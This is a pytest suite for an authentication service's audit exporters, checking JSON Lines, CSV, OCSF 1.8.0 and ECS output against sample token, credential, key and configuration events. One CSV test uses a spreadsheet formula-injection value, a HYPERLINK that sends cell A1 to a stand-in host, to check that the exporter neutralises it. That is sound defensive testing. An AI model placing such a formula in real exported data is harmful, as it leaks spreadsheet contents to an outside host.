"""Audit exports: JSON Lines and CSV read back to the events; OCSF checked against the
facts of the OCSF 1.8.0 schema (tests/data, a copy of what audit_checks.py reads); ECS
has its required fields."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from authsvc.audit.formats import (
    CSV_COLUMNS,
    ECS_VERSION,
    FORMATS,
    from_csv_row,
    to_csv,
    to_ecs,
    to_jsonl,
    to_ocsf,
)
from authsvc.audit.schema import GENESIS, SCHEMA, event_hash

FACTS_PATH = Path(__file__).resolve().parents[2] / "data" / "ocsf_1_8_facts.json"
FACTS: dict[str, Any] = json.loads(FACTS_PATH.read_text())
T0 = 1_795_840_970_123
WRITER = "auth-1.example.net:4242"
SERVICE = "registry.example.com"
POLICY = "9f" * 32

Event = dict[str, Any]


# -- events ---------------------------------------------------------------------------


def _token_event(
    outcome: str,
    reason: str,
    *,
    actor: dict[str, Any],
    scopes: list[str],
    granted: list[str],
    denied: list[str],
    issued: bool = True,
    **extra: Any,
) -> Event:
    event: Event = {
        "type": "token.issue",
        "outcome": outcome,
        "reason": reason,
        "actor": actor,
        "client": {"ip": "203.0.113.7", "user_agent": "docker/27.3.1 go/go1.22.7",
                   "client_id": "docker"},
        "request": {"service": SERVICE, "scopes": scopes, "grant_type": None, "offline": False},
        "decision": {"granted": granted, "denied": denied, "rules": ["dev-team", "public"],
                     "policy": POLICY},
    }
    if issued:
        event["token"] = {"jti": f"jti-{reason.lower()}", "exp": T0 // 1000 + 300, "kid": "K:ID"}
    event.update(extra)
    return event


def _alice(**more: Any) -> dict[str, Any]:
    return {"credential": "password", "username": "alice", "kind": "human", "provider": "static",
            "subject": "alice", "account": "alice", "fingerprint": "a1" * 16, **more}


SUCCESS = _token_event(
    "success", "GRANTED", actor=_alice(),
    scopes=["repository:team/app:pull,push"], granted=["repository:team/app:pull,push"], denied=[],
)
PARTIAL = _token_event(
    "partial", "SCOPE_DENIED",
    actor={"credential": "subject_token", "kind": "ci", "provider": "github",
           "subject": "repo:acme/app:ref:refs/heads/main", "account": None,
           "claims": {"repository": "acme/app", "run_id": "42"}},
    # one parameter holding two scopes, as a client may send them
    scopes=["repository:team/app:pull,push repository(plugin):team/prod/x:delete"],
    granted=["repository:team/app:pull,push"],
    denied=["repository(plugin):team/prod/x:delete"],
)
PARTIAL["request"]["grant_type"] = "urn:ietf:params:oauth:grant-type:token-exchange"
LOGIN_FAILED = _token_event(
    "failure", "INVALID_CREDENTIALS",
    actor={"credential": "password", "username": "mallory", "fingerprint": "m0" * 16},
    scopes=["repository:team/app:push"], granted=[], denied=["repository:team/app:push"],
    issued=False, message="invalid user name or password",
)
ALL_DENIED = _token_event(
    "failure", "SCOPE_DENIED", actor=_alice(),
    scopes=["repository:team/prod/app:delete"], granted=[],
    denied=["repository:team/prod/app:delete"],
)
ANONYMOUS = _token_event(
    "success", "GRANTED",
    actor={"credential": "none", "kind": "anonymous", "provider": "anonymous", "subject": "",
           "account": None},
    scopes=["repository:public/base:pull"], granted=["repository:public/base:pull"], denied=[],
)
NO_SERVICE = _token_event(
    "failure", "MISSING_SERVICE", actor={"credential": "none"},
    scopes=[], granted=[], denied=[], issued=False,
    message="the 'service' parameter is required",
)
NO_SERVICE["request"]["service"] = None
NO_SERVICE["client"] = {"ip": "not-an-ip", "user_agent": "", "client_id": None}
CONFIG_LOAD: Event = {
    "type": "config.load", "outcome": "success", "reason": "CONFIG_APPLIED",
    "config": {"source": "/etc/authsvc.yaml", "digest": "c0" * 32, "policy": POLICY},
}
CONFIG_RELOAD: Event = {
    "type": "config.reload", "outcome": "success", "reason": "CONFIG_APPLIED",
    "config": {"source": "/etc/authsvc.yaml", "digest": "c1" * 32, "policy": POLICY},
    "previous": {"source": "/etc/authsvc.yaml", "digest": "c0" * 32},
}
CHECKPOINT: Event = {
    "type": "audit.checkpoint", "outcome": "success", "reason": "CHECKPOINT",
    "checkpoint": {"first_seq": 1, "last_seq": 7, "last_hash": "ab" * 32, "count": 7,
                   "key_id": "k1", "kid": "K:ID", "algorithm": "ES256", "signature": "MEUC"},
}

SESSION_ID = "5e" * 32
OPERATOR = {"kind": "operator", "subject": "ops", "uid": 1000}
CREDENTIAL_CREATE: Event = {
    "type": "credential.create", "outcome": "success", "reason": "SESSION_ISSUED",
    "actor": {"kind": "human", "provider": "static", "subject": "alice", "account": "alice"},
    "client": {"client_id": "docker"},
    "credential": {"type": "session", "id": SESSION_ID, "fingerprint": "f0" * 16,
                   "expires_at": T0 // 1000 + 86400},
}
CREDENTIAL_REVOKE: Event = {
    "type": "credential.revoke", "outcome": "success", "reason": "SESSION_REVOKED",
    "actor": OPERATOR, "credential": {"type": "session", "id": SESSION_ID},
}
REVOKE_NOT_FOUND: Event = {
    "type": "credential.revoke", "outcome": "failure", "reason": "NOT_FOUND",
    "actor": OPERATOR, "credential": {"type": "session", "id": None},
}
CREDENTIAL_WITHDRAWN: Event = {  # authsvc's own: the grant it belonged to went unrecorded
    "type": "credential.revoke", "outcome": "success", "reason": "GRANT_NOT_RECORDED",
    "credential": {"type": "session", "id": SESSION_ID},
}
KEY_GENERATE: Event = {
    "type": "key.generate", "outcome": "success", "reason": "KEY_GENERATED", "actor": OPERATOR,
    "key": {"id": "k2", "kid": "K2:ID", "algorithm": "ES256", "from_state": None,
            "to_state": "staged"},
}
KEY_ROTATE: Event = {
    "type": "key.rotate", "outcome": "success", "reason": "KEY_ROTATED", "actor": OPERATOR,
    "key": {"id": "k2", "kid": "K2:ID", "algorithm": "ES256", "from_state": "staged",
            "to_state": "active"},
    "previous": {"id": "k1", "kid": "K1:ID", "algorithm": "ES256", "from_state": "active",
                 "to_state": "previous"},
}
KEY_RETIRE: Event = {
    "type": "key.retire", "outcome": "success", "reason": "KEY_RETIRED", "actor": OPERATOR,
    "key": {"id": "k1", "kid": "K1:ID", "algorithm": "ES256", "from_state": "previous",
            "to_state": "retired"},
}

SAMPLES = {
    "success": SUCCESS,
    "partial": PARTIAL,
    "login_failed": LOGIN_FAILED,
    "all_denied": ALL_DENIED,
    "anonymous": ANONYMOUS,
    "no_service": NO_SERVICE,
    "config_load": CONFIG_LOAD,
    "config_reload": CONFIG_RELOAD,
    "checkpoint": CHECKPOINT,
    "credential_create": CREDENTIAL_CREATE,
    "credential_revoke": CREDENTIAL_REVOKE,
    "revoke_not_found": REVOKE_NOT_FOUND,
    "credential_withdrawn": CREDENTIAL_WITHDRAWN,
    "key_generate": KEY_GENERATE,
    "key_rotate": KEY_ROTATE,
    "key_retire": KEY_RETIRE,
}


def _chained(bodies: list[Event]) -> list[Event]:
    """Complete events as one writer records them: id, time, seq and hash chain."""
    events, prev = [], GENESIS
    for seq, body in enumerate(bodies, start=1):
        event = {"schema": SCHEMA, "event_id": f"0193b2c4-0000-7000-8000-{seq:012x}",
                 "time": T0 + seq, **json.loads(json.dumps(body)), "writer": WRITER,
                 "seq": seq, "chain": {"prev": prev}}
        event["chain"]["hash"] = prev = event_hash(event)
        events.append(event)
    return events


EVENTS = dict(zip(SAMPLES, _chained(list(SAMPLES.values())), strict=True))


def _lines(chunks: Iterator[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in "".join(chunks).splitlines()]


# -- OCSF: a checker for the facts -----------------------------------------------------


def _present(value: Mapping[str, Any], name: str) -> bool:
    return value.get(name) not in (None, "", [], {})


def _constraint_problems(value: Mapping[str, Any], spec: Mapping[str, Any], at: str) -> list[str]:
    constraints = spec.get("constraints") or {}
    problems = [f"{at}: {name} is required" for name in spec.get("required", [])
                if not _present(value, name)]
    if "at_least_one" in constraints and not any(
        _present(value, n) for n in constraints["at_least_one"]
    ):
        problems.append(f"{at}: needs at least one of {constraints['at_least_one']}")
    if "just_one" in constraints:
        count = sum(_present(value, n) for n in constraints["just_one"])
        if count != 1:
            problems.append(f"{at}: needs just one of {constraints['just_one']}, has {count}")
    return problems


def _object_problems(value: Mapping[str, Any], at: str) -> list[str]:
    """Each member that is an object the facts describe meets its rules, recursively."""
    problems = []
    for name, member in value.items():
        kind = FACTS["attribute_types"].get(name, name)
        spec = FACTS["objects"].get(kind)
        if spec is None:
            continue
        if not isinstance(member, dict):
            problems.append(f"{at}.{name}: not an object")
            continue
        problems += _constraint_problems(member, spec, f"{at}.{name}")
        if "type_id" in member and str(member["type_id"]) not in spec.get("type_id_enum", {}):
            problems.append(f"{at}.{name}.type_id {member['type_id']} is not in its enum")
        problems += _object_problems(member, f"{at}.{name}")
    return problems


def ocsf_problems(record: Mapping[str, Any]) -> list[str]:
    """What in one OCSF event breaks the facts; [] when nothing does."""
    cls = FACTS["classes"].get(str(record.get("class_uid")))
    if cls is None:
        return [f"class_uid {record.get('class_uid')} is not one of {sorted(FACTS['classes'])}"]
    problems = []
    if record["category_uid"] != cls["category_uid"]:
        problems.append(f"category_uid {record['category_uid']} is not {cls['category_uid']}")
    if record["class_uid"] != record["category_uid"] * 1000 + cls["uid_in_category"]:
        problems.append("class_uid is not category_uid * 1000 + the class's uid")
    if record.get("type_uid") != record["class_uid"] * 100 + record.get("activity_id", -1):
        problems.append("type_uid is not class_uid * 100 + activity_id")
    activity = str(record.get("activity_id"))
    if activity not in cls["activity_id_enum"]:
        problems.append(f"activity_id {activity} is not in {cls['name']}'s enum")
    elif activity != "99" and record.get("activity_name") != cls["activity_id_enum"][activity]:
        problems.append(f"activity_name {record.get('activity_name')!r} is not its caption")
    problems += _constraint_problems(
        record,
        {"required": FACTS["base_event"]["required"] + cls["required"],
         "constraints": cls["constraints"]},
        cls["name"],
    )
    for name, kind in FACTS["attribute_types"].items():
        value = record.get(name, 0)
        if kind in ("integer_t", "long_t", "timestamp_t") and type(value) is not int:
            problems.append(f"{name} is not an integer")
    if isinstance(record.get("time"), int) and not 10**12 <= record["time"] < 10**13:
        problems.append(f"time {record['time']} is not in milliseconds")
    for name, enum in FACTS["enums"].items():
        if name in record and str(record[name]) not in enum:
            problems.append(f"{name} {record[name]} is not in its enum")
    for name, uid in (("severity", "severity_id"), ("status", "status_id")):
        if uid in record and record.get(name) != FACTS["enums"][uid].get(str(record[uid])):
            problems.append(f"{name} {record.get(name)!r} is not the caption of {uid}")
    if record.get("class_name") != cls["caption"]:
        problems.append(f"class_name {record.get('class_name')!r} is not {cls['caption']!r}")
    if record.get("category_name") != FACTS["categories"][cls["category"]]["caption"]:
        problems.append(f"category_name {record.get('category_name')!r} is not its caption")
    if record.get("metadata", {}).get("version") != FACTS["schema_version"]:
        problems.append(f"metadata.version is not {FACTS['schema_version']}")
    privileges = record.get("privileges", [])
    if not isinstance(privileges, list) or not all(isinstance(p, str) for p in privileges):
        problems.append("privileges is not a list of strings")
    return problems + _object_problems(record, cls["name"])


def _valid_records(event: Event) -> list[dict[str, Any]]:
    records = _lines(to_ocsf([event]))
    for record in records:
        assert ocsf_problems(record) == [], record
    return records


# -- OCSF -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sample", "classes"),
    [
        ("success", [3002, 3003]),
        ("partial", [3002, 3003, 6003]),
        ("login_failed", [3002]),
        ("all_denied", [3002, 6003]),
        ("anonymous", [3002, 3003]),
        ("no_service", [3002]),
        ("config_load", [6003]),
        ("config_reload", [6003]),
        ("checkpoint", [6003]),
        ("credential_create", [6003]),
        ("credential_revoke", [6003]),
        ("revoke_not_found", [6003]),
        ("credential_withdrawn", [6003]),
        ("key_generate", [6003]),
        ("key_rotate", [6003]),
        ("key_retire", [6003]),
    ],
)
def test_ocsf_events_meet_the_facts(sample: str, classes: list[int]) -> None:
    event = EVENTS[sample]
    records = _valid_records(event)
    assert [r["class_uid"] for r in records] == classes
    for record in records:
        assert record["time"] == event["time"]
        assert record["metadata"]["correlation_uid"] == event["event_id"]
        assert record["metadata"]["original_event_uid"] == event["event_id"]
        assert record["metadata"]["product"] == {"name": "authsvc", "vendor_name": "authsvc"}
        assert record["metadata"]["sequence"] == event["seq"]
    assert len({r["metadata"]["uid"] for r in records}) == len(records)


def test_ocsf_success_is_a_logon_and_the_granted_privileges() -> None:
    logon, session = _valid_records(EVENTS["success"])
    assert (logon["activity_id"], logon["status_id"], logon["severity_id"]) == (1, 1, 1)
    assert logon["user"] == {"name": "alice", "uid": "alice", "type_id": 1, "type": "User",
                             "credential_uid": "a1" * 16}
    assert logon["service"] == {"name": SERVICE}
    assert logon["src_endpoint"] == {"ip": "203.0.113.7"}
    assert logon["dst_endpoint"] == {"name": "authsvc", "hostname": "auth-1.example.net"}
    assert logon["http_request"] == {"user_agent": "docker/27.3.1 go/go1.22.7"}
    assert logon["actor"] == {"app_name": "docker"}
    assert (logon["auth_protocol_id"], logon["logon_type_id"]) == (11, 3)  # Basic, Network
    assert "status_detail" not in logon
    assert session["type_uid"] == 300301
    assert session["privileges"] == ["repository:team/app:pull,push"]
    assert "group" not in session
    assert session["session"] == logon["session"] == {
        "uid": "jti-granted", "expiration_time": (T0 // 1000 + 300) * 1000
    }
    assert session["unmapped"]["rules"] == ["dev-team", "public"]


def test_ocsf_partial_grant_adds_the_denied_scopes_as_a_failed_api_activity() -> None:
    logon, session, denial = _valid_records(EVENTS["partial"])
    assert logon["status_id"] == 1
    assert logon["auth_protocol_id"] == 6  # OAuth 2.0: a token exchange
    assert logon["user"]["uid"] == "repo:acme/app:ref:refs/heads/main"
    assert logon["unmapped"]["claims"] == {"repository": "acme/app", "run_id": "42"}
    assert logon["unmapped"]["requested"] == [
        "repository:team/app:pull,push", "repository(plugin):team/prod/x:delete"
    ]
    assert session["privileges"] == ["repository:team/app:pull,push"]
    assert (denial["activity_id"], denial["type_uid"]) == (99, 600399)
    assert (denial["status_id"], denial["severity_id"]) == (2, 2)
    assert denial["status_code"] == denial["status_detail"] == "SCOPE_DENIED"
    assert denial["actor"]["user"] == logon["user"]
    assert denial["api"] == {"operation": "token.issue", "service": {"name": SERVICE}}
    assert denial["resources"] == [
        {"type": "repository(plugin)", "name": "team/prod/x", "data": {"actions": ["delete"]}}
    ]


def test_ocsf_failed_login_is_one_failed_authentication() -> None:
    (logon,) = _valid_records(EVENTS["login_failed"])
    assert (logon["status_id"], logon["status"], logon["severity_id"]) == (2, "Failure", 3)
    assert logon["status_detail"] == logon["status_code"] == "INVALID_CREDENTIALS"
    assert logon["message"] == "invalid user name or password"
    assert logon["user"] == {"name": "mallory", "credential_uid": "m0" * 16}
    assert "session" not in logon
    assert logon["unmapped"]["requested"] == ["repository:team/app:push"]


def test_ocsf_denying_every_scope_is_a_logon_and_a_failed_api_activity() -> None:
    logon, denial = _valid_records(EVENTS["all_denied"])
    assert logon["status_id"] == 1
    assert denial["status_id"] == 2
    assert [r["name"] for r in denial["resources"]] == ["team/prod/app"]


def test_ocsf_callers_without_a_name() -> None:
    logon, _ = _valid_records(EVENTS["anonymous"])
    assert logon["user"] == {"name": "anonymous", "type_id": 99, "type": "Anonymous"}
    assert "auth_protocol_id" not in logon
    (failed,) = _valid_records(EVENTS["no_service"])
    assert "service" not in failed  # dst_endpoint meets at_least_one
    assert failed["src_endpoint"] == {"name": "not-an-ip"}  # ip must hold an IP address
    assert failed["user"]["name"] == "anonymous"
    refresh = {**EVENTS["login_failed"], "actor": {"credential": "refresh_token"}}
    (failed,) = _valid_records(refresh)
    assert failed["user"] == {"name": "unknown"}


def test_ocsf_configuration_reload_is_an_api_activity_of_authsvc() -> None:
    event = EVENTS["config_reload"]
    (record,) = _valid_records(event)
    assert (record["activity_id"], record["activity_name"]) == (99, "config.reload")
    assert (record["status_id"], record["severity_id"]) == (1, 1)
    assert record["actor"] == {"app_name": "authsvc"}
    assert record["api"] == {"operation": "config.reload", "service": {"name": "authsvc"}}
    assert record["src_endpoint"] == {"name": "authsvc", "hostname": "auth-1.example.net"}
    assert record["unmapped"]["config"] == event["config"]
    assert record["unmapped"]["previous"] == event["previous"]


def test_ocsf_a_new_session_credential_is_its_user_creating_a_resource() -> None:
    (record,) = _valid_records(EVENTS["credential_create"])
    assert (record["activity_id"], record["activity_name"], record["type_uid"]) == (
        1, "Create", 600301
    )
    assert (record["status_id"], record["severity_id"]) == (1, 1)
    assert record["actor"] == {
        "user": {"name": "alice", "uid": "alice", "type_id": 1, "type": "User"},
        "app_name": "docker",
    }
    assert record["api"] == {"operation": "credential.create", "service": {"name": "authsvc"}}
    assert record["resources"] == [{
        "type": "session credential", "uid": SESSION_ID,
        "data": {"fingerprint": "f0" * 16, "expires_at": T0 // 1000 + 86400},
    }]
    assert record["src_endpoint"] == {"name": "authsvc", "hostname": "auth-1.example.net"}
    assert "credential" not in record["unmapped"]


def test_ocsf_revocations_are_deletions_by_an_operator_or_by_authsvc() -> None:
    (revoked,) = _valid_records(EVENTS["credential_revoke"])
    assert (revoked["activity_id"], revoked["activity_name"]) == (4, "Delete")
    assert revoked["actor"] == {"user": {"name": "ops", "uid": "1000", "type_id": 2,
                                         "type": "Admin"}}
    assert revoked["resources"] == [{"type": "session credential", "uid": SESSION_ID}]
    (missing,) = _valid_records(EVENTS["revoke_not_found"])
    assert (missing["status_id"], missing["severity_id"]) == (2, 3)
    assert missing["status_code"] == missing["status_detail"] == "NOT_FOUND"
    assert missing["resources"] == [{"type": "session credential"}]
    (withdrawn,) = _valid_records(EVENTS["credential_withdrawn"])
    assert withdrawn["actor"] == {"app_name": "authsvc"}
    assert withdrawn["status_code"] == "GRANT_NOT_RECORDED"


def test_ocsf_key_events_name_every_key_they_changed() -> None:
    (generated,) = _valid_records(EVENTS["key_generate"])
    assert (generated["activity_id"], generated["activity_name"]) == (1, "Create")
    (rotated,) = _valid_records(EVENTS["key_rotate"])
    assert (rotated["activity_id"], rotated["activity_name"]) == (3, "Update")
    assert rotated["resources"] == [
        {"type": "signing key", "uid": "k2", "data": {
            "kid": "K2:ID", "algorithm": "ES256", "from_state": "staged", "to_state": "active"}},
        {"type": "signing key", "uid": "k1", "data": {
            "kid": "K1:ID", "algorithm": "ES256", "from_state": "active",
            "to_state": "previous"}},
    ]
    assert rotated["actor"]["user"]["name"] == "ops"
    (retired,) = _valid_records(EVENTS["key_retire"])
    assert retired["resources"][0]["data"]["to_state"] == "retired"


def test_ocsf_needs_the_time() -> None:
    event = {k: v for k, v in EVENTS["success"].items() if k != "time"}
    with pytest.raises(ValueError, match="no integer 'time'"):
        list(to_ocsf([event]))


def _without(record: dict[str, Any], name: str) -> dict[str, Any]:
    return {k: v for k, v in record.items() if k != name}


@pytest.mark.parametrize(
    ("break_it", "problem"),
    [
        (lambda r: _without(r, "user"), "user is required"),
        (lambda r: _without(r, "metadata"), "metadata is required"),
        (lambda r: {**r, "type_uid": 300300}, "type_uid is not"),
        (lambda r: {**r, "activity_id": 5, "type_uid": 300305}, "activity_id 5 is not"),
        (lambda r: {**r, "group": {"name": "dev"}}, "just one of"),
        (lambda r: _without(r, "privileges"), "just one of"),
        (lambda r: {**r, "time": r["time"] // 1000}, "not in milliseconds"),
        (lambda r: {**r, "time": r["time"] / 1}, "time is not an integer"),
        (lambda r: {**r, "severity_id": 7}, "severity_id 7 is not in its enum"),
        (lambda r: {**r, "class_uid": 3004}, "class_uid 3004 is not one of"),
        (lambda r: {**r, "user": {"type_id": 1}}, "needs at least one of"),
        (lambda r: {**r, "user": {"name": "a", "type_id": 5}}, "type_id 5 is not"),
        (lambda r: {**r, "src_endpoint": {"port": 1}}, "src_endpoint: needs at least one"),
        (lambda r: {**r, "metadata": {**r["metadata"], "version": "1.7.0"}}, "version"),
        (lambda r: {**r, "metadata": _without(r["metadata"], "product")}, "product is required"),
    ],
)
def test_the_ocsf_checker_finds_what_breaks_the_facts(break_it: Any, problem: str) -> None:
    _, session = _valid_records(EVENTS["success"])
    problems = ocsf_problems(break_it(session))
    assert any(problem in p for p in problems), problems


def test_the_facts_are_a_copy_of_the_shared_ones() -> None:
    shared = Path(__file__).resolve().parents[3].parent / "shared" / "ocsf_1_8_facts.json"
    if not shared.exists():
        pytest.skip(f"{shared} is not here (CI has only the copy)")
    assert json.loads(shared.read_text()) == FACTS


# -- CSV ------------------------------------------------------------------------------


def _csv_view(event: Event) -> dict[str, Any]:
    """What the CSV keeps of an event: empty or absent values read back as None."""

    def part(name: str) -> dict[str, Any]:
        return event.get(name) or {}

    def value(v: Any) -> Any:
        return v if v not in ("", None) else None

    actor, client, request, decision = (
        part(name) for name in ("actor", "client", "request", "decision")
    )

    def words(values: list[str] | None) -> list[str]:
        return [word for value in values or [] for word in value.split(" ") if word]

    return {
        "event_id": event["event_id"], "time": event["time"], "type": event["type"],
        "outcome": event["outcome"], "reason": event["reason"],
        "actor": {name: value(actor.get(name)) for name in
                  ("kind", "provider", "subject", "account", "credential", "fingerprint")},
        "client": {name: value(client.get(name)) for name in ("ip", "user_agent", "client_id")},
        "request": {"service": value(request.get("service")),
                    "scopes": words(request.get("scopes"))},
        "decision": {"granted": words(decision.get("granted")),
                     "denied": words(decision.get("denied")),
                     "rules": words(decision.get("rules")),
                     "policy": value(decision.get("policy"))},
        "token": {"jti": value(part("token").get("jti"))},
        "writer": event["writer"], "seq": event["seq"],
        "chain": {"hash": event["chain"]["hash"]},
        "credential": {"id": value(part("credential").get("id"))},
        "key": {"id": value(part("key").get("id"))},
    }


def _read_csv(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


def test_csv_reads_back_to_the_events() -> None:
    events = list(EVENTS.values())
    text = "".join(to_csv(events))
    rows = _read_csv(text)
    assert [from_csv_row(row) for row in rows] == [_csv_view(e) for e in events]
    assert rows[0]["time"] == "2026-11-28T04:42:50.124Z"
    assert rows[1]["requested"] == (
        "repository:team/app:pull,push repository(plugin):team/prod/x:delete"
    )
    assert rows[0]["rules"] == "dev-team public"
    assert text.count("\r\n") == len(events) + 1
    by_type = {(row["type"], row["reason"]): row for row in rows}
    revoked = by_type["credential.revoke", "SESSION_REVOKED"]
    assert (revoked["credential_id"], revoked["key_id"]) == (SESSION_ID, "")
    assert (revoked["actor_kind"], revoked["actor_subject"]) == ("operator", "ops")
    assert by_type["key.rotate", "KEY_ROTATED"]["key_id"] == "k2"
    assert by_type["token.issue", "GRANTED"]["credential_id"] == ""


def test_csv_rows_from_csv_reader_read_back_too() -> None:
    text = "".join(to_csv([EVENTS["partial"]]))
    header, row = csv.reader(io.StringIO(text, newline=""))
    assert tuple(header) == CSV_COLUMNS
    assert from_csv_row(row) == _csv_view(EVENTS["partial"])
    with pytest.raises(ValueError, match="26 cells, not 25"):
        from_csv_row(row[:-1])
    with pytest.raises(ValueError, match="no column hash"):
        from_csv_row({c: "" for c in CSV_COLUMNS if c != "hash"})


def test_csv_cells_never_start_a_spreadsheet_formula() -> None:
    event = {**EVENTS["success"], "client": {"ip": "203.0.113.7", "client_id": "'quoted",
             "user_agent": '=HYPERLINK("http://x.example/?"&A1,"click")'}}
    (row,) = _read_csv("".join(to_csv([event])))
    assert row["user_agent"] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    assert row["client_id"] == "''quoted"
    assert from_csv_row(row) == _csv_view(event)


@given(user_agent=st.text(), account=st.text(), client_ip=st.text(max_size=64))
def test_csv_reads_back_whatever_the_client_sent(
    user_agent: str, account: str, client_ip: str
) -> None:
    event = json.loads(json.dumps(EVENTS["success"]))
    event["client"].update(ip=client_ip, user_agent=user_agent)
    event["actor"].update(account=account, subject=account)
    (row,) = _read_csv("".join(to_csv([event])))
    assert from_csv_row(row) == _csv_view(event)


# -- JSON Lines -----------------------------------------------------------------------


def test_jsonl_reads_back_to_the_events() -> None:
    events = [*EVENTS.values(), {**EVENTS["success"], "client": {"user_agent": "a\u2028b\nc"}}]
    chunks = list(to_jsonl(events))
    assert all(c.endswith("\n") and c.count("\n") == 1 and "\u2028" not in c for c in chunks)
    assert [json.loads(c) for c in chunks] == events
    assert all(event_hash(e) == e["chain"]["hash"] for e in _lines(to_jsonl(EVENTS.values())))


# -- ECS ------------------------------------------------------------------------------


def _ms(timestamp: str) -> int:
    return int(datetime.fromisoformat(timestamp).timestamp() * 1000)


@pytest.mark.parametrize("sample", list(SAMPLES))
def test_ecs_documents_have_the_required_fields(sample: str) -> None:
    event = EVENTS[sample]
    (document,) = _lines(to_ecs([event]))
    assert document["@timestamp"].endswith("Z")
    assert _ms(document["@timestamp"]) == event["time"]
    assert document["ecs"] == {"version": ECS_VERSION}
    assert document["event"]["kind"] == "event"
    assert document["event"]["id"] == event["event_id"]
    assert document["event"]["action"] == event["type"]
    assert document["event"]["reason"] == event["reason"]
    assert document["event"]["sequence"] == event["seq"]
    assert isinstance(document["event"]["type"], list)
    assert document["service"]["name"] == "authsvc"
    assert document["authsvc"] == event
    assert event_hash(document["authsvc"]) == event["chain"]["hash"]


def test_ecs_token_issue_is_an_authentication() -> None:
    expected = {"success": "success", "partial": "success", "login_failed": "failure"}
    for sample, outcome in expected.items():
        (document,) = _lines(to_ecs([EVENTS[sample]]))
        assert document["event"]["category"] == ["authentication"]
        assert document["event"]["type"] == ["start"]
        assert document["event"]["outcome"] == outcome
    (document,) = _lines(to_ecs([EVENTS["success"]]))
    assert document["user"] == {"name": "alice", "id": "alice"}
    assert document["source"] == {"address": "203.0.113.7", "ip": "203.0.113.7"}
    assert document["user_agent"] == {"original": "docker/27.3.1 go/go1.22.7"}
    assert document["service"] == {"name": "authsvc", "target": {"name": SERVICE}}
    (document,) = _lines(to_ecs([EVENTS["login_failed"]]))
    assert document["user"] == {"name": "mallory"}
    assert document["message"] == "invalid user name or password"
    (document,) = _lines(to_ecs([EVENTS["no_service"]]))
    assert document["source"] == {"address": "not-an-ip"}  # source.ip must hold an IP
    assert "user_agent" not in document


@pytest.mark.parametrize(
    ("sample", "category", "kind", "user"),
    [
        ("credential_create", ["iam"], ["creation"], {"name": "alice", "id": "alice"}),
        ("credential_revoke", ["iam"], ["deletion"], {"name": "ops", "id": "1000"}),
        ("revoke_not_found", ["iam"], ["deletion"], {"name": "ops", "id": "1000"}),
        ("credential_withdrawn", ["iam"], ["deletion"], None),
        ("key_generate", ["configuration"], ["creation"], {"name": "ops", "id": "1000"}),
        ("key_rotate", ["configuration"], ["change"], {"name": "ops", "id": "1000"}),
        ("key_retire", ["configuration"], ["change"], {"name": "ops", "id": "1000"}),
    ],
)
def test_ecs_credential_and_key_events(
    sample: str, category: list[str], kind: list[str], user: dict[str, str] | None
) -> None:
    (document,) = _lines(to_ecs([EVENTS[sample]]))
    assert (document["event"]["category"], document["event"]["type"]) == (category, kind)
    assert document.get("user") == user
    assert document["event"]["outcome"] == EVENTS[sample]["outcome"]


def test_ecs_configuration_events() -> None:
    (load, reload, checkpoint) = _lines(
        to_ecs([EVENTS["config_load"], EVENTS["config_reload"], EVENTS["checkpoint"]])
    )
    assert (load["event"]["category"], load["event"]["type"]) == (["configuration"], ["info"])
    assert (reload["event"]["category"], reload["event"]["type"]) == (
        ["configuration"], ["change"]
    )
    assert "category" not in checkpoint["event"]
    assert reload["event"]["outcome"] == "success"


# -- all formats ----------------------------------------------------------------------


def test_formats_are_the_four_encoders() -> None:
    assert dict(FORMATS) == {"jsonl": to_jsonl, "csv": to_csv, "ocsf": to_ocsf, "ecs": to_ecs}
    assert list(to_csv([])) == [",".join(CSV_COLUMNS) + "\r\n"]
    assert all(list(FORMATS[name]([])) == [] for name in ("jsonl", "ocsf", "ecs"))


@pytest.mark.parametrize("name", list(FORMATS))
def test_encoders_stream(name: str) -> None:
    """An encoder writes all of the first event before it asks for the second."""

    def events() -> Iterator[Event]:
        yield EVENTS["partial"]
        raise LookupError("the encoder read ahead")

    written: list[str] = []
    with pytest.raises(LookupError, match="read ahead"):
        written.extend(FORMATS[name](events()))
    assert "".join(written) == "".join(FORMATS[name]([EVENTS["partial"]]))


def test_iso_time_is_utc_with_milliseconds() -> None:
    event = {**EVENTS["success"], "time": 0}
    (row,) = _read_csv("".join(to_csv([event])))
    assert row["time"] == "1970-01-01T00:00:00.000Z"
    assert from_csv_row(row)["time"] == 0
    assert datetime.fromisoformat(row["time"]) == datetime(1970, 1, 1, tzinfo=UTC)
